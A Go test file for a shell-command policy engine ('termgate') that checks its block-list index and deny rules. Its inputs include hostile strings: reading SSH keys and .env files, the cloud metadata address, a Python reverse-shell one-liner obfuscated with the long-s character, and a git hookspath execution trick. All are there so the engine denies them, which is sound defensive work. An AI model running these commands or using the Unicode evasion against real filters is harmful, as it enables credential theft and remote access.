package policy

import (
	"context"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// markNaive is what a list holds, as the package doc defines it: its
// entries; every string with one of them as a prefix (*_prefixes); every
// string that contains one, ignoring case as Go's regexp (?i) does
// (*_substrings): the lists guard rules whose patterns are case-blind.
func markNaive(lists map[string][]string, s string) []string {
	var out []string
	for name, entries := range lists {
		for _, e := range entries {
			var ok bool
			switch {
			case strings.HasSuffix(name, "_prefixes"):
				ok = strings.HasPrefix(s, e)
			case strings.HasSuffix(name, "_substrings"):
				ok = e == "" || regexp.MustCompile("(?i)"+regexp.QuoteMeta(e)).MatchString(s)
			default:
				ok = s == e
			}
			if ok {
				out = addOnce(out, name)
			}
		}
	}
	slices.Sort(out)
	return out
}

// TestListIndexMarks holds the engine's list index to the definition,
// over every word of the corpus and strings made to catch an entry at
// either end, in capitals, overlapping another or of one byte.
func TestListIndexMarks(t *testing.T) {
	e := defaultEngine(t)
	b := e.Bundle()
	lists := bundleLists(b)
	lists["odd_substrings"] = []string{"q", "zz", "zzz", "é", "μ", "kill"}
	lists["empty_substrings"] = []string{""}
	idx := newListIndex(map[string]any{"termgate": map[string]any{"lists": func() map[string]any {
		m := map[string]any{}
		for k, v := range lists {
			a := make([]any, len(v))
			for i, s := range v {
				a[i] = s
			}
			m[k] = a
		}
		return m
	}()}})
	words := []string{"", "a", "q", "Q", "zz", "z", "xzzx", "ÉTÉ", "~/.SSH/ID_RSA", "cat ~/.ssh/id_rsa", "/home/u/.ssh",
		"169.254.169.254", "x169.254.169.254y", "__TERMGATE_x", "cat .env", ".en", "docker.sock", "/var/run/docker.soc",
		"import ſocket", "pty.ſpawn", "core.hookſpath=/h", "\u212aILL", "ſ", "\xffsocket\xfe", "ÉtÉ", "µ", "Μ"}
	for _, c := range loadCorpus(t) {
		words = append(words, c.Text)
		words = append(words, strings.Fields(c.Text)...)
	}
	for _, c := range loadCodeCorpus(t) {
		words = append(words, c.text)
	}
	for _, w := range words {
		var got []string
		idx.mark(&got, w)
		slices.Sort(got)
		if want := markNaive(lists, w); !slices.Equal(got, want) {
			t.Fatalf("mark(%q) = %v, want %v", w, got, want)
		}
	}
}

// TestCommandListed: each command's listed is what the lists hold of its
// name, and the line's listed holds them all.
func TestCommandListed(t *testing.T) {
	e := defaultEngine(t)
	lists := bundleLists(e.Bundle())
	seen := 0
	for _, in := range benchInputs(t) {
		built := e.Build(in)
		if built.Shell == nil {
			continue
		}
		for _, c := range built.Shell.Commands {
			want := markNaive(lists, c.Name)
			if want == nil {
				want = []string{}
			}
			if !slices.Equal(c.Listed, want) {
				t.Errorf("%q: %s's listed %v, want %v", in.Text, c.Name, c.Listed, want)
			}
			for _, l := range c.Listed {
				if !slices.Contains(built.Shell.Listed, l) {
					t.Errorf("%q: the line's listed lacks %s", in.Text, l)
				}
			}
			seen += len(c.Listed)
		}
	}
	if seen < 500 {
		t.Errorf("only %d lists hold the corpus's commands: the comparison proves little", seen)
	}
}

// bundleLists is the string entries of b's data.termgate.lists, by list.
func bundleLists(b *Bundle) map[string][]string {
	lists := map[string][]string{}
	tg, _ := b.data["termgate"].(map[string]any)
	ls, _ := tg["lists"].(map[string]any)
	for name, l := range ls {
		arr, _ := l.([]any)
		for _, v := range arr {
			if s, ok := v.(string); ok {
				lists[name] = append(lists[name], s)
			}
		}
	}
	return lists
}

// TestCallerShellFoldsCase: a shell document a caller sends (termgate
// policy eval) is judged on its words as written, and the rules' case-blind
// patterns take the long s ſ for s: the lists that guard them must too.
func TestCallerShellFoldsCase(t *testing.T) {
	e := defaultEngine(t)
	for _, c := range []struct {
		args []string
		rule string
	}{
		{[]string{"python3", "-c", `import ſocket,pty;s=ſocket.create_connection(("h",1));pty.ſpawn("sh")`}, "net.reverse_shell"},
		{[]string{"git", "-c", "core.hookſpath=/tmp/h", "commit"}, "git.config_exec"},
	} {
		in := Input{Action: "input", Program: "bash", Text: strings.Join(c.args, " "),
			Shell: &Shell{Commands: []Command{{Name: c.args[0], Args: c.args[1:]}}}}
		d, err := e.Decide(context.Background(), in)
		if err != nil {
			t.Fatal(err)
		}
		if d.Action != "deny" || d.Rule != c.rule {
			t.Errorf("%q: %s %s, want deny %s", in.Text, d.Action, d.Rule, c.rule)
		}
	}
}
